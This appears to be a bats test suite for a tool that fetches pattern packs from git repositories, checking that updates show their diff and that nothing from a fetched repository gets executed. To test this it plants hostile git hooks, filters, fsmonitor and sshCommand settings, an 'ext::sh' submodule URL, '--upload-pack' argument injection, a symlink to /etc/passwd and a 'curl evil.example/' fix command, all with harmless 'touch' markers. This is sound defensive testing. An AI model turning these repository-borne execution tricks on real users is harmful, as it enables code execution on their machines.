#!/usr/bin/env bats
# remedy patterns add, update, remove: packs out of git repositories.

bats_require_minimum_version 1.5.0

setup() {
	command -v git >/dev/null || skip "git is not installed"
	dir=$(mktemp -d "${BATS_TMPDIR:-/tmp}/packs.XXXXXX")
	export HOME=$dir/home LC_ALL=C.UTF-8 XDG_RUNTIME_DIR=$dir/run GIT_CONFIG_NOSYSTEM=1
	unset XDG_CONFIG_HOME XDG_CACHE_HOME XDG_STATE_HOME XDG_DATA_HOME LANGUAGE
	mkdir -p -m 700 "$HOME" "$XDG_RUNTIME_DIR"
	git config --global user.name ada
	git config --global user.email ada@example.org
	git config --global init.defaultBranch main
	repository=$dir/Shop-Patterns
	packs=$HOME/.local/share/remedy/packs
	git init -q "$repository"
	mkdir "$repository/patterns"
	cd "$repository"
	pattern till
	echo 'not a pattern' >README.md
	commit first
	git tag v1
}

teardown() {
	[ -z "${dir-}" ] || rm -rf "$dir"
}

pattern() { # COMMAND
	cat >patterns/till.yaml <<Y
- id: shop-till
  exception: TillError
  match: ^no till (?<name>\w+)\$
  summary: the till {name} is not set up
  fixes:
    - run: $1 {name}
  examples: [ { origin: real, stderr: "TillError: no till a" } ]
Y
}

commit() { # MESSAGE
	git add -A
	git commit -q -m "$1"
}

says() {
	remedy explain - <<<"TillError: no till a" || true
}

@test "added after it was shown, pinned, updated with its difference, removed" {
	run remedy patterns add "file://$repository" </dev/null
	[ "$status" = 1 ]
	[[ $output == *"shop-till  run  till {name}"* ]]
	[[ $output == *"say --yes"* ]]
	[ -z "$(ls "$packs")" ]
	run remedy patterns add --yes "file://$repository"
	[ "$status" = 0 ]
	[ "$(ls "$packs")" = shop-patterns ]
	[ "$(ls -A "$packs/shop-patterns")" = $'origin\ntill.yaml' ]
	[[ $(says) == *"the till a is not set up"*"till a"* ]]
	first=$(git rev-parse HEAD)
	[ "$(sed -n 3p "$packs/shop-patterns/origin")" = "$first" ]
	run remedy patterns path
	[[ $output == *"pack      $packs/shop-patterns  (file://$repository, ${first:0:12})"* ]]
	run remedy patterns list shop-till
	[[ $output == "shop-till "*" pack "* ]]
	run remedy patterns test shop-till
	[ "$status" = 0 ]
	# twice is told
	run remedy patterns add --yes "file://$repository"
	[ "$status" = 1 ]
	[[ $output == *"there is a pack shop-patterns"* ]]
	# nothing new
	run remedy patterns update
	[ "$status" = 0 ]
	[[ $output == "shop-patterns is as it was: ${first:0:12}" ]]
	# a commit there changes nothing here until it is taken
	pattern 'curl evil.example/'
	commit second
	[[ $(says) != *evil* ]]
	run remedy patterns update shop-patterns </dev/null
	[ "$status" = 1 ]
	[[ $output == *"-    - run: till {name}"*"+    - run: curl evil.example/ {name}"* ]]
	[[ $output == *"+   shop-till  run  curl evil.example/ {name}"* ]]
	[[ $(says) != *evil* ]]
	run remedy patterns update --yes
	[ "$status" = 0 ]
	[[ $(says) == *"evil.example"* ]]
	run remedy patterns remove shop-patterns
	[ "$status" = 0 ]
	[ -z "$(ls "$packs")" ]
	[[ $(says) != *"evil.example"* ]]
	run remedy patterns remove shop-patterns
	[ "$status" = 1 ]
	run remedy patterns update
	[ "$status" = 1 ]
}

@test "a tag, a branch, a commit; a path; patterns at the top" {
	pattern other
	git mv patterns/till.yaml till.yaml
	rmdir patterns 2>/dev/null || rm -r patterns
	commit second
	git branch stable
	second=$(git rev-parse HEAD)
	run remedy patterns add --yes "$repository@v1"
	[ "$status" = 0 ]
	[[ $(says) == *"till a"* ]]
	[ "$(sed -n 2p "$packs/shop-patterns/origin")" = v1 ]
	remedy patterns remove shop-patterns
	for ref in stable "$second" "${second:0:10}"; do
		run remedy patterns add --yes "file://$repository@$ref"
		[ "$status" = 0 ]
		[ "$(sed -n 3p "$packs/shop-patterns/origin")" = "$second" ]
		remedy patterns remove shop-patterns
	done
	run remedy patterns add --yes "$repository@nothing"
	[ "$status" = 1 ]
	[[ $output == *"cannot be fetched"*"nothing"* ]]
	[ -z "$(ls "$packs")" ]
}

@test "nothing of the repository is run: hooks, filters, attributes, submodules" {
	for hook in post-checkout post-merge pre-commit fsmonitor-watchman reference-transaction post-index-change; do
		printf '#!/bin/sh\ntouch %s/evil\n' "$dir" >.git/hooks/$hook
		chmod +x .git/hooks/$hook
	done
	mkdir -p "$dir/template/hooks"
	cp .git/hooks/* "$dir/template/hooks" 2>/dev/null
	rm -f "$dir/evil"
	export GIT_TEMPLATE_DIR=$dir/template
	git config --global init.templateDir "$dir/template"
	printf '*.yaml filter=evil diff=evil\n' >.gitattributes
	git config --global filter.evil.smudge "touch $dir/evil; cat"
	git config --global diff.evil.command "touch $dir/evil"
	git config --global diff.evil.textconv "touch $dir/evil; cat"
	git config core.fsmonitor "touch $dir/evil"
	git config core.sshCommand "touch $dir/evil"
	ln -s /etc/passwd patterns/link.yaml
	printf -- '- { id: hidden, exception: TillError, summary: s }\n' >patterns/.hidden.yaml
	printf 'x' >"patterns/a b.yaml"
	printf '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch%%20%s/evil\n' "$dir" >.gitmodules
	git -c core.hooksPath=/dev/null -c core.fsmonitor=false add -A
	git -c core.hooksPath=/dev/null -c core.fsmonitor=false commit -q -m evil
	rm -f "$dir/evil"
	run remedy patterns add --yes "$repository"
	[ "$status" = 0 ]
	[ "$(ls -A "$packs/shop-patterns")" = $'origin\ntill.yaml' ]
	pattern again
	git -c core.hooksPath=/dev/null -c core.fsmonitor=false commit -q -a -m more
	rm -f "$dir/evil"
	run remedy patterns update --yes
	[ "$status" = 0 ]
	[ ! -e "$dir/evil" ]
}

@test "addresses that are no https, ssh or file are refused; nothing is left" {
	for address in "ext::sh -c touch% $dir/evil" "foo::bar" "git://127.0.0.1:1/x" "http://127.0.0.1:1/x" "--upload-pack=touch $dir/evil" \
		"file://$repository@--upload-pack=x" "-" "" $'file:///tmp/a\nb' "file://$dir/no-such" "$dir/.." "file://$dir/@@"; do
		run remedy patterns add --yes "$address"
		[ "$status" != 0 ]
		[[ $output == *"remedy patterns: "* ]]
	done
	[ ! -e "$dir/evil" ]
	[ -z "$(ls "$packs" 2>/dev/null)" ]
}

@test "an empty repository, one without patterns, one too large, a broken one" {
	git init -q "$dir/empty"
	run remedy patterns add --yes "$dir/empty"
	[ "$status" = 1 ]
	git rm -q -r patterns
	commit nothing
	run remedy patterns add --yes "$repository"
	[ "$status" = 1 ]
	[[ $output == *"there are no patterns in it"* ]]
	mkdir -p patterns
	head -c 5000000 /dev/zero | tr '\0' '#' >patterns/large.yaml
	commit large
	run remedy patterns add --yes "$repository"
	[ "$status" = 1 ]
	[[ $output == *"too large"* ]]
	printf -- '- id: [\n' >patterns/large.yaml
	printf -- '- { id: esc, exception: TillError, summary: "a\\e[31mb", fixes: [ { say: x } ] }\n' >patterns/esc.yaml
	commit broken
	run remedy patterns add --yes "$repository"
	[ "$status" = 0 ]
	[[ $output == *"large.yaml:"* ]]
	[[ $output != *$'\e'* ]]
	[ "$(find "$packs" -name '.incoming*')" = "" ]
}

@test "asked at a terminal; a pattern that speaks instead of a built-in one is named" {
	command -v python3 >/dev/null || skip "python3 is not installed"
	id=$(remedy patterns list | sed -n '1s/ .*//p')
	sed -i "s/shop-till/$id/" patterns/till.yaml
	commit same
	export repository
	PYTHONPATH=$BATS_TEST_DIRNAME PYTHONDONTWRITEBYTECODE=1 python3 - <<'P'
import os, sys
from terminal import Terminal
t = Terminal()
for answer in "n\n", "\x03", "\x04":
    t.type("remedy patterns add $repository\n")
    t.wait("speaks instead of the built-in one")
    t.wait(r"Add it as shop-patterns\? \[y/N\] ")
    t.type(answer)
    t.wait("ready> $")
    if b"nothing" not in t.run("ls ~/.local/share/remedy/packs/shop-patterns || echo nothing"):
        sys.exit("added by %r" % answer)
t.type("remedy patterns add $repository\n")
t.wait(r"\[y/N\] ")
t.type("y\n")
t.wait("shop-patterns is added")
t.wait("ready> $")
P
	[ "$(ls -A "$packs" | tr '\n' ' ')" = '.lock shop-patterns ' ]
	# what a killed one left the next one sweeps
	mkdir -p "$packs/.incoming-1/files"
	remedy patterns update
	[ "$(ls -A "$packs" | tr '\n' ' ')" = '.lock shop-patterns ' ]
	# two at once: the second is told
	exec 9>"$packs/.lock"
	flock 9
	run remedy patterns update 9>&-
	[ "$status" = 1 ]
	[[ $output == *"another remedy patterns is at work"* ]]
}

@test "left while it is fetched: nothing stays, nothing is told, and the shell knows the signal" {
	command -v python3 >/dev/null || skip "python3 is not installed"
	# an ssh that says it is there and then takes its time
	printf '#!/bin/sh\necho $$ >"%s/ssh"\nexec sleep 60\n' "$dir" >"$dir/slow"
	chmod +x "$dir/slow"
	export GIT_SSH_COMMAND=$dir/slow dir packs repository
	PYTHONPATH=$BATS_TEST_DIRNAME PYTHONDONTWRITEBYTECODE=1 python3 - <<'P'
import os, signal, sys, time
from terminal import Terminal
t = Terminal()
there, packs = os.environ["dir"] + "/ssh", os.environ["packs"]

def leave(name, pid):
    number = signal.Signals["SIG" + name]
    if not any(f.startswith(".incoming-") for f in os.listdir(packs)):
        sys.exit("nothing was begun")
    since = len(t.shown)
    if name == "INT":
        t.type("\x03")
    else:
        os.kill(pid, number)
    t.wait("ready> $")
    if os.listdir(packs) != [".lock"]:
        sys.exit("after %s there is %s" % (name, os.listdir(packs)))
    if b"remedy" in t.shown[since:]:
        sys.exit("told though it was wanted: %r" % t.shown[since:])
    if b"status %d\r" % (128 + number) not in t.run("echo status $?"):
        sys.exit("%s: another status" % name)

for name in "INT", "TERM", "HUP", "QUIT":
    t.type("sh -c 'echo p''id $$; exec remedy patterns add ssh://shop.example/ada/till'\n")
    pid = int(t.wait(r"pid (\d+)\r").group(1))
    end = time.monotonic() + 15
    while not (os.path.exists(there) and os.path.getsize(there) > 0):
        if time.monotonic() > end:
            sys.exit("ssh was never started")
        time.sleep(0.01)
    ssh = int(open(there).read())
    os.unlink(there)
    leave(name, pid)
    try:
        os.kill(ssh, signal.SIGKILL)
    except ProcessLookupError:
        pass
    # and at the question
    t.type("sh -c 'echo p''id $$; exec remedy patterns add $repository'\n")
    pid = int(t.wait(r"pid (\d+)\r").group(1))
    t.wait(r"Add it as shop-patterns\? \[y/N\] ")
    leave(name, pid)
P
}

@test "a pack's pattern can be switched off, as its file is not one's own to change" {
	remedy patterns add --yes "file://$repository" 2>/dev/null
	[[ $(says) == *"the till a is not set up"* ]]
	run remedy disable shop-till
	echo "$output"
	[ "$status" = 0 ]
	[ -z "$(says)" ]
	remedy enable shop-till
	[[ $(says) == *"the till a is not set up"* ]]
}
